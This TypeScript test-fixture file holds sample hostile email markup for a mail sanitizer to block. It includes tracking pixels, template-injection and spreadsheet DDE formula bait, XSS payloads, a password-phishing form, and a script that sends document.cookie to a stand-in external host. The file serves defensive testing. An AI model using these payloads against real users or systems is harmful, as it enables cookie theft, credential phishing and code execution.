/** Markup that mails bring along and that must never run or load: trackers, scripts, template and formula bait. */

/** A remote logo, a web beacon and a tracked link, as marketing tools append them to a signature. */
export const TRACKER_HTML = `<table><tr><td><a href="https://click.halyard-robotics.example/c/9f2e?u=https%3A%2F%2Fwww.halyard-robotics.example"><img src="https://cdn.halyard-robotics.example/mail/banner-expo.jpg" width="480" height="90" alt="Meet us at the expo, booth 412"></a></td></tr></table>
<img src="https://track.halyard-robotics.example/o/9f2e41.gif" width="1" height="1" alt="">
<div style="background-image:url(https://track.halyard-robotics.example/bg/9f2e41.png)"></div>`;

/** Bait for template engines and spreadsheets, as visible text. */
export const HOSTILE_TEXT =
  '{{7*7}} ${constructor.constructor(1)} <%= 7*7 %>\n=cmd|\'/C calc\'!A0\n<script>alert("credit control")</script>';

/** The same in HTML, with what a browser would run if it were let. */
export const HOSTILE_HTML = `<script>fetch("https://files.greyfriars-tooling.example/s?c=" + document.cookie)</script>
<img src="x" onerror="alert(document.domain)">
<svg onload="alert(1)"><a href="javascript:alert(2)">Open the statement</a></svg>
<iframe src="https://files.greyfriars-tooling.example/frame"></iframe>
<form action="https://files.greyfriars-tooling.example/login"><input name="password" placeholder="Sign in to see the invoice"></form>
<style>body { background: url("https://files.greyfriars-tooling.example/css.png"); } .pane { display: none !important; }</style>
<div>{{7*7}} \${constructor.constructor(1)} =cmd|'/C calc'!A0</div>`;
